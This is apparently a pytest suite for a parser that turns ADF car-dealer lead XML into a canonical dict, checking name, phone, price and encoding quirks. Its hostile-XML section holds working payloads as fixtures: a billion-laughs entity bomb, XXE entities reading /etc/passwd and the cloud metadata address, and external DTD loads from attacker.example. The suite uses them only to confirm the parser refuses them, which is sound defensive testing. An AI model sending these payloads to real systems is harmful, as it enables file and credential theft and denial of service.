"""ADF 1.0 XML → canonical lead dict: real-world quirks parse, hostile XML is refused safely."""

from __future__ import annotations

import contextlib
import json
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leads.intake.parsers import PayloadError
from leads.intake.parsers.adf import MAX_BODY_BYTES, parse_adf, parse_price, slugify_source
from leads.intake.parsers.canonical import normalise_datetime, split_full_name

FIXTURES = Path(__file__).parent / "fixtures" / "adf"
ADF_FIXTURES = sorted(FIXTURES.glob("*.xml"))

MINIMAL = (
    "<adf><prospect><customer><contact><name part='full'>Anna Schmidt</name>"
    "<email>anna@example.de</email></contact></customer></prospect></adf>"
)


def expected_for(path: Path) -> dict:
    return json.loads(path.with_name(path.stem + ".expected.json").read_text("utf-8"))


def assert_refused(body: bytes, *words: str, max_peak_bytes: int = 16 * 1024 * 1024) -> str:
    """Parsing must raise PayloadError naming ``words``, fast and without a memory blow-up."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(PayloadError) as caught:
            parse_adf(body)
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    message = caught.value.message.lower()
    for word in words:
        assert word.lower() in message, message
    assert peak < max_peak_bytes, f"peak {peak} bytes"
    assert elapsed < 5, f"took {elapsed:.1f}s"
    return message


# --- every fixture parses to its expected dict --------------------------------------------------


def test_adf_fixture_folder_is_complete():
    assert len(ADF_FIXTURES) >= 15
    for path in ADF_FIXTURES:
        assert path.with_name(path.stem + ".expected.json").exists(), path.name


@pytest.mark.parametrize("path", ADF_FIXTURES, ids=lambda p: p.stem)
def test_adf_fixture_parses_to_expected_dict(path: Path):
    assert parse_adf(path.read_bytes()) == expected_for(path)


# --- the mapping, one rule at a time ------------------------------------------------------------


def test_adf_spec_example_maps_vehicle_name_and_phone():
    lead = parse_adf((FIXTURES / "spec_example.xml").read_bytes())
    assert lead["vehicle"] == {"year": 1999, "make": "Chevrolet", "model": "Blazer"}
    assert lead["customer"] == {"first_name": "John", "last_name": "Doe", "phone": "393-999-3922"}
    assert lead["received_at"] == "2000-03-30T15:30:20-08:00"
    assert lead["source"] == "adf"
    assert "external_id" not in lead


def test_adf_external_id_prefers_the_id_from_the_provider():
    lead = parse_adf((FIXTURES / "spec_full.xml").read_bytes())
    assert lead["external_id"] == "AS24-4711-0815"
    assert lead["source"] == "autoscout24"


def test_adf_external_id_falls_back_to_the_first_id():
    body = b"<adf><prospect><id source='x'>first</id><id source='y'>second</id></prospect></adf>"
    assert parse_adf(body)["external_id"] == "first"


def test_adf_trade_in_vehicle_is_not_the_vehicle_of_interest():
    body = (
        b"<adf><prospect><vehicle interest='trade-in'><make>Opel</make></vehicle>"
        b"<vehicle interest='buy' status='new'><make>VW</make></vehicle></prospect></adf>"
    )
    lead = parse_adf(body)
    assert lead["vehicle"] == {"make": "VW", "condition": "new"}
    assert lead["adf"]["vehicle_interest"] == "buy"
    assert lead["adf"]["other_vehicles"] == [{"make": "Opel", "interest": "trade-in"}]


def test_adf_full_name_is_split_into_first_and_last():
    lead = parse_adf(MINIMAL.encode())
    assert lead["customer"]["first_name"] == "Anna"
    assert lead["customer"]["last_name"] == "Schmidt"


def test_adf_last_comma_first_name_is_split():
    lead = parse_adf((FIXTURES / "phones_fax_and_preferred.xml").read_bytes())
    assert (lead["customer"]["first_name"], lead["customer"]["last_name"]) == ("Jane", "Doe")


def test_adf_preferred_voice_number_wins_and_a_fax_is_never_chosen():
    lead = parse_adf((FIXTURES / "phones_fax_and_preferred.xml").read_bytes())
    assert lead["customer"]["phone"] == "020 7946 0991"
    assert lead["customer"]["preferred_channel"] == "phone"


def test_adf_without_a_preference_a_cellphone_beats_a_landline():
    lead = parse_adf((FIXTURES / "spec_full.xml").read_bytes())
    assert lead["customer"]["phone"] == "0171 1234567"


def test_adf_with_only_a_fax_has_no_phone():
    lead = parse_adf((FIXTURES / "only_fax.xml").read_bytes())
    assert "phone" not in lead["customer"]
    assert "preferred_channel" not in lead["customer"]


def test_adf_preferred_email_sets_preferred_channel_email():
    lead = parse_adf((FIXTURES / "uppercase_pi_and_tags.xml").read_bytes())
    assert lead["customer"]["preferred_channel"] == "email"


def test_adf_primary_contact_is_chosen_among_several():
    body = (
        b"<adf><prospect><customer><contact><name>Other Person</name></contact>"
        b"<contact primarycontact='1'><name>Main Person</name></contact></customer></prospect></adf>"
    )
    assert parse_adf(body)["customer"]["first_name"] == "Main"


def test_adf_address_gives_postal_code():
    lead = parse_adf((FIXTURES / "spec_full.xml").read_bytes())
    assert lead["customer"]["postal_code"] == "10115"
    assert lead["customer"]["address"]["city"] == "Berlin"


def test_adf_vendor_and_provider_are_kept_under_adf():
    lead = parse_adf((FIXTURES / "spec_full.xml").read_bytes())
    assert lead["adf"]["vendor"]["name"] == "Autohaus Beispiel GmbH"
    assert lead["adf"]["provider"]["service"] == "Händleranfrage"


def test_adf_with_several_prospects_parses_the_first_and_counts_them():
    lead = parse_adf((FIXTURES / "multiple_prospects.xml").read_bytes())
    assert lead["external_id"] == "LB-1"
    assert lead["adf"]["prospects"] == 3


def test_adf_with_stray_ampersand_parses():
    lead = parse_adf((FIXTURES / "stray_ampersand.xml").read_bytes())
    assert lead["vehicle"]["trim"] == "HSE & Dynamic"
    assert lead["message"] == "Trade & finance? Price < $60k € € € &unknownentity; AT&T"
    assert lead["customer"]["email"] == "sw&j@example.com"


def test_adf_ampersand_inside_cdata_is_left_alone():
    body = b"<adf><prospect><customer><comments><![CDATA[a & b &amp; c]]></comments></customer></prospect></adf>"
    assert parse_adf(body)["message"] == "a & b &amp; c"


def test_adf_doctype_text_inside_cdata_is_just_text():
    body = b"<adf><prospect><customer><comments><![CDATA[<!DOCTYPE x>]]></comments></customer></prospect></adf>"
    assert parse_adf(body)["message"] == "<!DOCTYPE x>"


def test_adf_latin1_declared_body_decodes_umlauts():
    lead = parse_adf((FIXTURES / "latin1_declared.xml").read_bytes())
    assert lead["customer"]["first_name"] == "Jürgen"
    assert lead["vehicle"]["price"] == 27450


def test_adf_undeclared_cp1252_bytes_decode():
    lead = parse_adf((FIXTURES / "cp1252_undeclared.xml").read_bytes())
    assert lead["customer"]["last_name"] == "Lefèvre"
    assert lead["message"] == "Prix « tout compris » ? Merci – F."


def test_adf_declared_utf8_that_is_really_latin1_still_decodes():
    body = "<?xml version='1.0' encoding='UTF-8'?><adf><prospect><customer><comments>Grüße</comments></customer></prospect></adf>"
    assert parse_adf(body.encode("latin-1"))["message"] == "Grüße"


@pytest.mark.parametrize("encoding", ["idna", "punycode", "base64", "rot13", "utf-7", "nonsense"])
def test_adf_odd_declared_encoding_never_crashes(encoding: str):
    # "idna" raises a bare UnicodeError on a bad "xn--" label; "base64" and "rot13" are not
    # text encodings at all. Whatever a sender declares must end in a parse or a PayloadError.
    body = f"<?xml version='1.0' encoding='{encoding}'?><adf><prospect><id>a.xn--zz.b</id>".encode()
    body += MINIMAL[len("<adf><prospect>") :].encode()
    with contextlib.suppress(PayloadError):
        parse_adf(body)


def test_adf_utf16_with_bom_decodes():
    body = "\ufeff<?xml version='1.0' encoding='UTF-16'?>" + MINIMAL
    assert parse_adf(body.encode("utf-16-le"))["customer"]["email"] == "anna@example.de"


def test_adf_received_at_is_normalised_when_parseable():
    lead = parse_adf(
        b"<adf><prospect><requestdate>2026-11-23T09:04:00Z</requestdate></prospect></adf>"
    )
    assert lead["received_at"] == "2026-11-23T09:04:00+00:00"


def test_adf_received_at_is_kept_as_given_when_unparseable():
    lead = parse_adf(
        b"<adf><prospect><requestdate> 11/23/2026 9:04 AM </requestdate></prospect></adf>"
    )
    assert lead["received_at"] == "11/23/2026 9:04 AM"


def test_adf_year_that_is_not_a_number_is_kept_as_text():
    lead = parse_adf(b"<adf><prospect><vehicle><year>2024/25</year></vehicle></prospect></adf>")
    assert lead["vehicle"]["year"] == "2024/25"


def test_adf_unparseable_price_is_left_out():
    lead = parse_adf(
        b"<adf><prospect><vehicle><make>VW</make><price>on request</price></vehicle></prospect></adf>"
    )
    assert lead["vehicle"] == {"make": "VW"}


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("21.990,00 EUR", 21990),
        ("$21,990", 21990),
        ("$21,990.50", 21990.5),
        ("21990", 21990),
        ("21 990 €", 21990),
        ("CHF 21'990.–", 21990),
        ("21.990", 21990),
        ("1.234.567", 1234567),
        ("19,5", 19.5),
        ("€ 9.999,99", 9999.99),
        ("-500", -500),
        ("call for price", None),
        ("", None),
        ("...", None),
    ],
)
def test_price_tolerates_portal_formats(raw: str, expected: float | None):
    assert parse_price(raw) == expected


@pytest.mark.parametrize(
    ("full", "expected"),
    [
        ("Anna Schmidt", ("Anna", "Schmidt")),
        ("Anna Maria  Schmidt", ("Anna Maria", "Schmidt")),
        ("Schmidt, Anna", ("Anna", "Schmidt")),
        ("Cher", ("Cher", "")),
        ("   ", ("", "")),
    ],
)
def test_full_name_split(full: str, expected: tuple[str, str]):
    assert split_full_name(full) == expected


def test_source_slug_is_ascii_and_url_safe():
    assert slugify_source("Händler Börse 24 / GmbH") == "handler-borse-24-gmbh"
    assert slugify_source("!!!") == ""


def test_normalise_datetime_accepts_offsets_without_colon():
    assert normalise_datetime("2026-11-23T09:04:00+0100") == "2026-11-23T09:04:00+01:00"


# --- refusals: unreadable or not ADF ------------------------------------------------------------


def test_adf_empty_body_is_refused():
    assert_refused(b"", "empty")
    assert_refused(b" \r\n\t ", "empty")


def test_adf_non_adf_xml_is_refused():
    message = assert_refused(
        b"<?xml version='1.0'?><lead><name>x</name></lead>", "not an ADF document"
    )
    assert "<lead>" in message


def test_adf_without_prospect_is_refused():
    assert_refused(b"<adf><vendor/></adf>", "no <prospect>")


def test_adf_invalid_utf8_junk_is_refused():
    assert_refused(bytes(range(128, 256)) * 8, "xml")


def test_adf_malformed_xml_is_refused():
    assert_refused(b"<adf><prospect></adf>", "not well-formed")
    assert_refused(b"not xml at all", "not well-formed")
    assert_refused(b"<adf><prospect>&#0;</prospect></adf>", "not well-formed")


# --- refusals: hostile XML --------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<adf><prospect><customer><comments>&lol9;</comments></customer></prospect></adf>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<adf><prospect><customer><comments>&xxe;</comments></customer></prospect></adf>"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<adf><prospect><customer><comments>&xxe;</comments></customer></prospect></adf>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE adf SYSTEM "http://attacker.example/adf.dtd">
<adf><prospect/></adf>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<adf><prospect/></adf>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe-file", "xxe-http", "external-dtd", "parameter-entity"],
)
def test_adf_with_dtd_or_entities_is_refused(body: bytes):
    assert_refused(body, "refused")


def test_adf_doctype_in_upper_case_after_bom_is_refused():
    assert_refused(
        b"\xef\xbb\xbf  <!doctype adf [<!entity a 'b'>]><adf><prospect/></adf>", "refused"
    )


def test_adf_doctype_is_refused_by_the_parser_too(monkeypatch: pytest.MonkeyPatch):
    # The text pre-check gives the clear message; defusedxml must still stop a DTD on its own.
    import leads.intake.parsers.safe_xml as safe_xml

    monkeypatch.setattr(safe_xml, "_DOCTYPE", safe_xml.re.compile(r"(?!)"))
    assert_refused(XXE_FILE, "dtd", "refused")
    assert_refused(BILLION_LAUGHS, "refused")


def test_adf_ten_megabyte_body_is_refused_before_parsing():
    body = (
        b"<adf><prospect><customer><comments>"
        + b"x" * (10 * 1024 * 1024)
        + b"</comments></customer></prospect></adf>"
    )
    assert_refused(body, "too large")


def test_adf_body_just_under_the_limit_is_parsed():
    filler = b"x" * (MAX_BODY_BYTES - 200)
    lead = parse_adf(
        b"<adf><prospect><customer><comments>" + filler + b"</comments></customer></prospect></adf>"
    )
    assert len(lead["message"]) == len(filler)


def test_adf_with_ten_thousand_elements_is_refused():
    body = b"<adf><prospect>" + b"<id/>" * 10_000 + b"</prospect></adf>"
    assert_refused(body, "more than 5000 elements")


def test_adf_deeply_nested_is_refused():
    body = b"<adf>" + b"<x>" * 10_000 + b"</x>" * 10_000 + b"</adf>"
    assert_refused(body, "deeper than 50")


def test_adf_nested_exactly_at_the_limit_parses():
    body = b"<adf><prospect>" + b"<x>" * 48 + b"</x>" * 48 + b"</prospect></adf>"
    assert parse_adf(body)["adf"]["prospects"] == 1


@pytest.mark.parametrize(
    "make_body",
    [
        lambda: b"<adf>" + b"<![CDATA[" * 25_000,
        lambda: b"<adf>" + b"<!--" * 60_000,
        lambda: b"<?xml " * 40_000,
        lambda: b"<adf>" + b"&" * 250_000,
        lambda: b"<adf>" + b"&#x" * 80_000,
    ],
    ids=[
        "unterminated-cdata",
        "unterminated-comments",
        "xml-decl-spam",
        "ampersands",
        "charref-spam",
    ],
)
def test_adf_pathological_text_is_refused_quickly(make_body: Callable[[], bytes]):
    assert_refused(make_body(), "xml")


# --- property: nothing but PayloadError ---------------------------------------------------------

XML_TOKENS = st.sampled_from(
    [
        "<adf>",
        "</adf>",
        "<prospect>",
        "</prospect>",
        "<customer>",
        "</customer>",
        "<contact>",
        "</contact>",
        "<name part='full'>",
        "<name part='first'>",
        "</name>",
        "<phone type='fax'>",
        "<phone preferredcontact='1'>",
        "</phone>",
        "<email>",
        "</email>",
        "<vehicle status='used'>",
        "</vehicle>",
        "<price>",
        "</price>",
        "<year>",
        "</year>",
        "<id source='x'>",
        "</id>",
        "<provider>",
        "</provider>",
        "<requestdate>",
        "</requestdate>",
        "<comments>",
        "</comments>",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<?adf version='1.0'?>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE adf>",
        "&",
        "&amp;",
        "&#0;",
        "&#x110000;",
        "&nbsp;",
        "\ufeff",
        "ü",
        "€",
        " ",
        "21.990,00",
        "$1,2,3",
        "2026-11-23T10:00:00+01:00",
        "x",
        "\x00",
        "\udcff",
    ]
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_parse_adf_raises_only_payload_error_on_arbitrary_bytes(body: bytes):
    try:
        lead = parse_adf(body)
    except PayloadError:
        return
    assert isinstance(lead, dict)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(XML_TOKENS, max_size=60), st.sampled_from(["utf-8", "cp1252", "utf-16"]))
def test_parse_adf_raises_only_payload_error_on_xml_shaped_junk(tokens: list[str], encoding: str):
    body = "".join(tokens).encode(encoding, "replace")
    try:
        lead = parse_adf(body)
    except PayloadError:
        return
    assert isinstance(lead, dict)
    json.dumps(lead)  # the result must be storable as JSON
